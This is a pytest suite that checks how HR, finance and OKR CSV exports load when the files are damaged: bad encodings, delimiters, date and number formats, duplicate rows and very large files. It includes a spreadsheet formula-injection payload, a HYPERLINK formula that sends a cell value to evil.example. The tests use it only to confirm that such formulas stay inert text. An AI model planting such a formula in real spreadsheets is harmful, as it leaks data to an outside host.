"""Bad CSV exports of the HR, finance and OKR sources: each loads exactly or fails by name.

Every case starts from the demo company's own file, damages it one way, and reads the
source as a refresh does. A case either loads the same numbers as the clean file (common
real-world variants: UTF-16, Excel's Windows-1252, `1,234.50`, `$1,234.50` in a USD
row, US dates in a NetSuite ledger) or raises a `SourceFileError` naming the file, the
line and the column. Never a silently different number.
"""

from __future__ import annotations

from pathlib import Path

import pyarrow as pa
import pytest
from fault_inputs import (
    UTF8_BOM,
    CsvFile,
    assert_names,
    copy_sources,
    cut_inside_line,
    read,
    read_fails,
    total,
)

# (source, file, table the file lands in, a text column, a column the reader requires)
CSV_EXPORTS = [
    ("hr", "hr/headcount.csv", "hr__employees", "Team", "Hire Date"),
    ("finance", "finance/gl.csv", "finance__gl_lines", "Memo", "Amount"),
    ("finance", "finance/revenue.csv", "finance__revenue", "Customer", "Amount"),
    ("finance", "finance/fx_rates.csv", "finance__fx_rates", None, "Rate"),
    ("okrs", "okrs/objectives.csv", "okr__objectives", "title", "period_start"),
    ("okrs", "okrs/key_results.csv", "okr__key_results", "title", "kr_type"),
    ("okrs", "okrs/checkins.csv", "okr__checkins", "note", "checkin_date"),
]
IDS = [case[1] for case in CSV_EXPORTS]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


def _copy(tmp_path: Path, name: str) -> Path:
    return copy_sources(tmp_path / "bad", name)


def _same_rows(left: pa.Table, right: pa.Table) -> None:
    assert left.num_rows == right.num_rows
    assert left.to_pylist() == right.to_pylist()


@pytest.mark.parametrize(("name", "file", "table", "text", "needed"), CSV_EXPORTS, ids=IDS)
def test_an_empty_file_is_refused_at_line_1(tmp_path, name, file, table, text, needed):
    folder = _copy(tmp_path, name)
    (folder / file).write_bytes(b"")

    assert_names(read_fails(name, folder), file, 1, None, "empty")


@pytest.mark.parametrize(("name", "file", "table", "text", "needed"), CSV_EXPORTS, ids=IDS)
def test_a_file_cut_off_inside_a_row_is_refused_at_that_row(
    tmp_path, name, file, table, text, needed
):
    folder = _copy(tmp_path, name)
    cut_inside_line(folder / file, line=40)
    assert_names(read_fails(name, folder), file, 40, None, "fields like the header, got 2")


@pytest.mark.parametrize(("name", "file", "table", "text", "needed"), CSV_EXPORTS, ids=IDS)
@pytest.mark.parametrize("encoding", ["utf-16", "cp1252"])
def test_utf16_and_excel_windows_1252_files_load_exactly(
    tmp_path, name, file, table, text, needed, encoding
):
    clean = read(name, copy_sources(tmp_path / "clean", name))[table]
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    if text is not None:
        # A character that is two bytes in UTF-8, one in Windows-1252 and one UTF-16 unit.
        export.set(10, text, "Café Zürich")
    export.write(folder / file, encoding=encoding)

    loaded = read(name, folder)[table]

    if text is None:
        _same_rows(loaded, clean)
        return
    column = {"Team": "team", "Memo": "memo", "Customer": "customer"}.get(text, text)
    assert loaded.column(column).to_pylist().count("Café Zürich") == 1
    assert loaded.drop_columns([column]).to_pylist() == clean.drop_columns([column]).to_pylist()


@pytest.mark.parametrize(("name", "file", "table", "text", "needed"), CSV_EXPORTS, ids=IDS)
def test_latin1_behind_a_utf8_byte_order_mark_names_the_line_and_column(
    tmp_path, name, file, table, text, needed
):
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    last = export.header[-1]
    export.set(6, last, export.rows[6][-1] + "é")
    export.write(folder / file, encoding="latin-1", bom=UTF8_BOM)

    assert_names(read_fails(name, folder), file, 8, last, "byte-order mark", "0xe9")


@pytest.mark.parametrize(("name", "file", "table", "text", "needed"), CSV_EXPORTS, ids=IDS)
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_another_delimiter_is_refused_at_the_header(
    tmp_path, name, file, table, text, needed, delimiter
):
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    export.write(folder / file, delimiter=delimiter)

    error = read_fails(name, folder)

    assert error.line == 1 and error.path == file
    assert "comma-separated" in str(error), str(error)
    assert error.column in export.header


@pytest.mark.parametrize(("name", "file", "table", "text", "needed"), CSV_EXPORTS, ids=IDS)
@pytest.mark.parametrize("how", ["renamed", "missing"])
def test_a_renamed_or_missing_required_column_is_named(
    tmp_path, name, file, table, text, needed, how
):
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    if how == "renamed":
        export.header[export.column(needed)] = needed.upper() + " (renamed)"
    else:
        export.drop(needed)
    export.write(folder / file)

    assert_names(read_fails(name, folder), file, 1, needed)


KEYED_DUPLICATES = [case for case in CSV_EXPORTS if case[1] != "finance/gl.csv"]


@pytest.mark.parametrize(
    ("name", "file", "table", "text", "needed"),
    KEYED_DUPLICATES,
    ids=[c[1] for c in KEYED_DUPLICATES],
)
def test_a_duplicated_row_of_a_keyed_export_names_both_lines(
    tmp_path, name, file, table, text, needed
):
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    export.rows.append(list(export.rows[4]))
    export.write(folder / file)
    duplicate_line = len(export.rows) + 1

    error = read_fails(name, folder)

    assert (error.path, error.line) == (file, duplicate_line), str(error)
    assert "line 6" in str(error), str(error)


def test_identical_ledger_lines_are_two_postings_and_both_land(tmp_path):
    # A ledger may post the same amount twice on one day (two identical fees): each
    # line is a posting, keyed by its line, so the total grows by exactly those lines.
    clean = read("finance", copy_sources(tmp_path / "clean", "finance"))["finance__gl_lines"]
    folder = _copy(tmp_path, "finance")
    export = CsvFile.load(folder / "finance/gl.csv")
    repeated = export.rows[100:103]
    export.rows += [list(row) for row in repeated]
    export.write(folder / "finance/gl.csv")

    loaded = read("finance", folder)["finance__gl_lines"]

    added = round(sum(float(row[export.column("Amount")]) for row in repeated), 2)
    assert loaded.num_rows == clean.num_rows + 3
    assert total(loaded, "amount") == pytest.approx(total(clean, "amount") + added, abs=0.01)
    assert loaded.column("line_number").to_pylist()[-3:] == [1377, 1378, 1379]


def test_a_ledger_pasted_twice_with_its_header_is_refused_at_the_second_header(tmp_path):
    folder = _copy(tmp_path, "finance")
    path = folder / "finance/gl.csv"
    text = path.read_text()
    path.write_text(text + text)

    assert_names(read_fails("finance", folder), "finance/gl.csv", 1377, "Date", "'Date'")


# --- dates -------------------------------------------------------------------------


def test_a_netsuite_ledger_with_us_dates_loads_the_same_days(tmp_path):
    clean = read("finance", copy_sources(tmp_path / "clean", "finance"))["finance__gl_lines"]
    folder = _copy(tmp_path, "finance")
    export = CsvFile.load(folder / "finance/gl.csv")
    export.map("Date", lambda iso: f"{int(iso[5:7])}/{int(iso[8:10])}/{iso[:4]}")
    export.write(folder / "finance/gl.csv")

    _same_rows(read("finance", folder)["finance__gl_lines"], clean)


def test_day_first_ledger_dates_are_refused_at_the_first_day_past_12(tmp_path):
    # 04/03/2025 would be read as April 3rd: the first day above 12 proves the order wrong
    # and stops the whole file, so no row lands in the wrong month.
    folder = _copy(tmp_path, "finance")
    export = CsvFile.load(folder / "finance/gl.csv")
    export.map("Date", lambda iso: f"{iso[8:10]}/{iso[5:7]}/{iso[:4]}")
    export.write(folder / "finance/gl.csv")
    first = next(i for i, d in enumerate(export.values("Date")) if int(d[:2]) > 12)

    error = read_fails("finance", folder)

    assert_names(error, "finance/gl.csv", first + 2, "Date", export.rows[first][0])


DATE_COLUMNS = [
    ("hr", "hr/headcount.csv", "Hire Date"),
    ("finance", "finance/gl.csv", "Date"),
    ("okrs", "okrs/objectives.csv", "period_start"),
    ("okrs", "okrs/checkins.csv", "checkin_date"),
]


@pytest.mark.parametrize(("name", "file", "column"), DATE_COLUMNS, ids=[c[1] for c in DATE_COLUMNS])
@pytest.mark.parametrize(
    "style",
    [
        pytest.param(lambda iso: f"{iso[8:10]}.{iso[5:7]}.{iso[:4]}", id="dd.mm.yyyy"),
        pytest.param(lambda iso: f"{iso[8:10]}-{iso[5:7]}-{iso[2:4]}", id="dd-mm-yy"),
    ],
)
def test_dates_in_other_formats_are_refused_with_line_and_column(
    tmp_path, name, file, column, style
):
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    export.map(column, lambda value: style(value) if value[:4].isdigit() else value)
    export.write(folder / file)
    first = next(i for i, v in enumerate(export.values(column)) if v)

    assert_names(read_fails(name, folder), file, first + 2, column, "expected a date")


@pytest.mark.parametrize(
    ("name", "file", "column", "bad"),
    [
        ("hr", "hr/headcount.csv", "Hire Date", "03/04/2025"),
        ("okrs", "okrs/checkins.csv", "checkin_date", "03/04/2025"),
        ("finance", "finance/revenue.csv", "Period", "03/2025"),
        ("finance", "finance/fx_rates.csv", "Month", "Nov 2023"),
    ],
)
def test_slash_dates_where_the_tool_writes_iso_are_refused(tmp_path, name, file, column, bad):
    # Outside a ledger whose tool is known to write US dates, 03/04 is ambiguous.
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    export.set(20, column, bad)
    export.write(folder / file)

    assert_names(read_fails(name, folder), file, 22, column, repr(bad))


# --- numbers -----------------------------------------------------------------------


def _money(amount: str, symbol: str = "") -> str:
    number = float(amount)
    sign = "-" if number < 0 else ""
    return f"{sign}{symbol}{abs(number):,.2f}"


@pytest.mark.parametrize("file", ["finance/gl.csv", "finance/revenue.csv"])
@pytest.mark.parametrize("with_symbol", [False, True], ids=["1,234.50", "$1,234.50"])
def test_grouped_amounts_and_matching_symbols_load_the_same_totals(tmp_path, file, with_symbol):
    table = "finance__gl_lines" if file.endswith("gl.csv") else "finance__revenue"
    clean = read("finance", copy_sources(tmp_path / "clean", "finance"))[table]
    folder = _copy(tmp_path, "finance")
    export = CsvFile.load(folder / file)
    symbols = {"USD": "$", "CAD": "$", "EUR": "€", "GBP": "£"} if with_symbol else {}
    amount, currency = export.column("Amount"), export.column("Currency")
    for row in export.rows:
        row[amount] = _money(row[amount], symbols.get(row[currency], ""))
    export.write(folder / file)
    assert any("," in v for v in export.values("Amount"))

    loaded = read("finance", folder)[table]

    _same_rows(loaded, clean)


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("€1.234,50", "decimal commas"),
        ("1.234,50", "decimal commas"),
        ("1,5", "decimal commas"),
        ("$1,234.50", "written in $ but the currency is EUR"),
        ("12,34.5", "expected"),
        ("=1+1", "expected"),
    ],
)
def test_ambiguous_or_contradictory_amounts_are_refused(tmp_path, value, words):
    folder = _copy(tmp_path, "finance")
    export = CsvFile.load(folder / "finance/revenue.csv")
    row = export.values("Currency").index("EUR")
    export.set(row, "Amount", value)
    export.write(folder / "finance/revenue.csv")

    assert_names(read_fails("finance", folder), "finance/revenue.csv", row + 2, "Amount", words)


def test_a_grouped_pay_rate_loads_the_same_salary(tmp_path):
    clean = read("hr", copy_sources(tmp_path / "clean", "hr"))["hr__compensation"]
    folder = _copy(tmp_path, "hr")
    export = CsvFile.load(folder / "hr/headcount.csv")

    def grouped(pay: str) -> str:
        amount, currency = pay.split()
        return f"{float(amount):,.2f} {currency}"

    export.map("Pay Rate", grouped)
    export.write(folder / "hr/headcount.csv")

    _same_rows(read("hr", folder)["hr__compensation"], clean)


@pytest.mark.parametrize("value", ["$125,000.00", "125.000,00 EUR", "125000"])
def test_a_pay_rate_without_its_iso_currency_is_refused(tmp_path, value):
    folder = _copy(tmp_path, "hr")
    export = CsvFile.load(folder / "hr/headcount.csv")
    export.set(7, "Pay Rate", value)
    export.write(folder / "hr/headcount.csv")

    assert_names(read_fails("hr", folder), "hr/headcount.csv", 9, "Pay Rate", "ISO currency")


def test_an_fx_rate_with_a_decimal_comma_is_refused(tmp_path):
    folder = _copy(tmp_path, "finance")
    export = CsvFile.load(folder / "finance/fx_rates.csv")
    export.set(3, "Rate", export.rows[3][2].replace(".", ","))
    export.write(folder / "finance/fx_rates.csv")

    error = read_fails("finance", folder)

    assert_names(error, "finance/fx_rates.csv", 5, "Rate", "decimal commas")


# --- formula injection -------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "file", "table", "text", "needed"),
    [c for c in CSV_EXPORTS if c[3]],
    ids=[c[1] for c in CSV_EXPORTS if c[3]],
)
def test_a_spreadsheet_formula_lands_as_inert_text(tmp_path, name, file, table, text, needed):
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    export.set(3, text, FORMULA)
    export.write(folder / file)

    loaded = read(name, folder)[table]

    column = {"Team": "team", "Memo": "memo", "Customer": "customer"}.get(text, text)
    assert loaded.column(column).to_pylist()[3] == FORMULA


@pytest.mark.parametrize(
    ("name", "file", "column"),
    [
        ("finance", "finance/gl.csv", "Amount"),
        ("hr", "hr/headcount.csv", "FTE"),
        ("okrs", "okrs/checkins.csv", "value"),
        ("finance", "finance/fx_rates.csv", "Rate"),
    ],
)
def test_a_formula_in_a_number_column_is_refused_not_evaluated(tmp_path, name, file, column):
    folder = _copy(tmp_path, name)
    export = CsvFile.load(folder / file)
    export.set(3, column, "=1+1")
    export.write(folder / file)

    assert_names(read_fails(name, folder), file, 5, column, "'=1+1'")


# --- ten times the usual size ------------------------------------------------------


def test_a_ledger_ten_times_the_usual_size_loads_ten_times_the_total(tmp_path):
    clean = read("finance", copy_sources(tmp_path / "clean", "finance"))["finance__gl_lines"]
    folder = _copy(tmp_path, "finance")
    export = CsvFile.load(folder / "finance/gl.csv")
    export.rows = [list(row) for _ in range(10) for row in export.rows]
    export.write(folder / "finance/gl.csv")

    loaded = read("finance", folder)["finance__gl_lines"]

    assert loaded.num_rows == 10 * clean.num_rows == 13_750
    assert total(loaded, "amount") == pytest.approx(10 * total(clean, "amount"), abs=0.1)


def test_revenue_ten_times_the_usual_size_loads_ten_times_the_total(tmp_path):
    clean = read("finance", copy_sources(tmp_path / "clean", "finance"))["finance__revenue"]
    folder = _copy(tmp_path, "finance")
    export = CsvFile.load(folder / "finance/revenue.csv")
    customer = export.column("Customer")
    rows = []
    for copy in range(10):
        for row in export.rows:
            rows.append([*row[:customer], f"{row[customer]} #{copy}", *row[customer + 1 :]])
    export.rows = rows
    export.write(folder / "finance/revenue.csv")

    loaded = read("finance", folder)["finance__revenue"]

    assert loaded.num_rows == 10 * clean.num_rows == 27_060
    assert total(loaded, "amount") == pytest.approx(10 * total(clean, "amount"), abs=0.1)


def test_headcount_ten_times_the_usual_size_loads_every_employee(tmp_path):
    clean = read("hr", copy_sources(tmp_path / "clean", "hr"))
    folder = _copy(tmp_path, "hr")
    export = CsvFile.load(folder / "hr/headcount.csv")
    number, manager = export.column("Employee #"), export.column("Reports To")
    rows = []
    for copy in range(10):
        for row in export.rows:
            row = list(row)
            row[number] = f"{copy}{row[number]}"
            row[manager] = f"{copy}{row[manager]}" if row[manager] else ""
            rows.append(row)
    export.rows = rows
    export.write(folder / "hr/headcount.csv")

    loaded = read("hr", folder)

    assert loaded["hr__employees"].num_rows == 10 * clean["hr__employees"].num_rows == 3_700
    assert total(loaded["hr__compensation"], "annual_salary") == pytest.approx(
        10 * total(clean["hr__compensation"], "annual_salary"), abs=1
    )


def test_key_results_ten_times_the_usual_size_load_every_one(tmp_path):
    clean = read("okrs", copy_sources(tmp_path / "clean", "okrs"))["okr__key_results"]
    folder = _copy(tmp_path, "okrs")
    export = CsvFile.load(folder / "okrs/key_results.csv")
    export.rows = [
        [f"{row[0]}-x{copy}", *row[1:]] if copy else list(row)
        for copy in range(10)
        for row in export.rows
    ]
    export.write(folder / "okrs/key_results.csv")

    loaded = read("okrs", folder)["okr__key_results"]

    assert loaded.num_rows == 10 * clean.num_rows == 4_060
    assert total(loaded, "weight") == pytest.approx(10 * total(clean, "weight"))
